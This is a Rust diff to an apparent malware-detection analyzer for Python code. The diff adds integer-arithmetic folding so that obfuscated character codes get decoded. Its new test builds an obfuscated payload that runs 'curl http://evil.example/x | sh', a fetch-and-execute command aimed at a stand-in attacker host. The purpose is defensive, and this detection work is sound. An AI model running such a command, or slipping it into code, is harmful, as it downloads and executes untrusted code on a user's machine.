@@ -14,6 +14,7 @@ use tree_sitter::{Language, Node, Parser, Tree, TreeCursor};
 
 use crate::decode;
 use crate::ext;
+use crate::fold;
 use crate::model::{Facts, Raw, Scope, Sink, snippet};
 use crate::patterns;
 use crate::pylit;
@@ -146,11 +147,11 @@ pub(crate) fn analyze(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut 
         );
         return;
     }
-    let masked = mask_escape_runs(src);
-    let Some(tree) = parse(&masked) else {
+    let parsed = parser_copy(src);
+    let Some(tree) = parse(&parsed) else {
         return;
     };
-    let py = Py::collect(src, &tree, ctx);
+    let py = Py::collect(src, &parsed, &tree, ctx);
     py.walk(ctx, sink, facts);
 }
 
@@ -267,6 +268,8 @@ type Bytes = (Vec<u8>, bool);
 
 struct Py<'t> {
     src: &'t [u8],
+    /// What the parser read (see [`parser_copy`]): integer literals are read from it.
+    parsed: &'t [u8],
     aliases: HashMap<String, String>,
     /// (enclosing function id or 0, name) -> assigned expressions.
     assigns: HashMap<(usize, String), Vec<Node<'t>>>,
@@ -360,6 +363,21 @@ fn each_child<'t>(n: Node<'t>, cur: &mut TreeCursor<'t>, mut f: impl FnMut(Node<
     }
 }
 
+/// The copy of `src` the parser reads: escape runs masked ([`mask_escape_runs`]) and
+/// integer arithmetic folded ([`fold::fold_into`]). Byte offsets, string and comment
+/// boundaries and line ends are those of `src`; text is read from `src`, except
+/// integer literals, which are read from this copy.
+fn parser_copy(src: &[u8]) -> std::borrow::Cow<'_, [u8]> {
+    let mut out = match mask_escape_runs(src) {
+        std::borrow::Cow::Owned(v) => Some(v),
+        std::borrow::Cow::Borrowed(_) => None,
+    };
+    // Folding reads `src` and writes over the (possibly masked) copy: the two touch
+    // disjoint kinds of bytes, and folded text inside a literal stays inside it.
+    fold::fold_into(src, &mut out);
+    out.map_or(std::borrow::Cow::Borrowed(src), std::borrow::Cow::Owned)
+}
+
 /// Long runs of escape sequences (`\x4d\x5a\x90...`: executables dropped from a
 /// bytes literal) become one token per escape in tree-sitter, hundreds of thousands
 /// of nodes for one literal. The parser gets a copy where such runs (escapes and the
@@ -414,9 +432,10 @@ fn line_of(n: Node<'_>) -> u32 {
 
 impl<'t> Py<'t> {
     /// First pass: imports, aliases, assignments, call graph, install command classes.
-    fn collect(src: &'t [u8], tree: &'t Tree, _ctx: &PyCtx<'_>) -> Py<'t> {
+    fn collect(src: &'t [u8], parsed: &'t [u8], tree: &'t Tree, _ctx: &PyCtx<'_>) -> Py<'t> {
         let mut py = Py {
             src,
+            parsed,
             aliases: HashMap::new(),
             assigns: HashMap::new(),
             funcs_by_id: HashMap::new(),
@@ -1118,7 +1137,7 @@ impl<'t> Py<'t> {
                 return apply_codec(&enc, b, t);
             }
             "chr" | "unichr" => {
-                let v = int_value(text(arg0()?, src))?;
+                let v = int_value(text(arg0()?, self.parsed))?;
                 let c = char::from_u32(u32::try_from(v).ok()?)?;
                 c.to_string().into_bytes()
             }
@@ -1128,7 +1147,7 @@ impl<'t> Py<'t> {
                     let mut out = Vec::new();
                     let mut c = a.walk();
                     for x in a.named_children(&mut c) {
-                        out.push(u8::try_from(int_value(text(x, src))?).ok()?);
+                        out.push(u8::try_from(int_value(text(x, self.parsed))?).ok()?);
                     }
                     out
                 } else {
@@ -1334,7 +1353,7 @@ impl<'t> Py<'t> {
         let mut out = Vec::new();
         let mut c = n.walk();
         for x in n.named_children(&mut c) {
-            out.push(int_value(text(x, self.src))?);
+            out.push(int_value(text(x, self.parsed))?);
         }
         Some(out)
     }
@@ -2861,6 +2880,27 @@ mod tests {
 
     fn rules(s: &Sink) -> Vec<&'static str> {
         s.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn arithmetic_character_codes_are_decoded_after_folding() {
+        // Each character code written as shifts and sums, as obfuscators do.
+        let payload = "import os;os.system('curl http://evil.example/x | sh')";
+        let codes: Vec<String> = payload
+            .bytes()
+            .map(|b| format!("(({} << 2) + {}) - 0", b >> 2, b & 3))
+            .collect();
+        let src = format!("exec(''.join(map(chr, [{}])))\n", codes.join(", "));
+        let s = run(&src);
+        assert!(
+            s.findings
+                .iter()
+                .any(|f| f.layer > 0 && f.rule.starts_with("CMD-")),
+            "{:?}",
+            s.findings
+        );
+        // Evidence still points at the original text.
+        assert!(s.findings.iter().all(|f| f.line == 1), "{:?}", s.findings);
     }
 
     #[test]
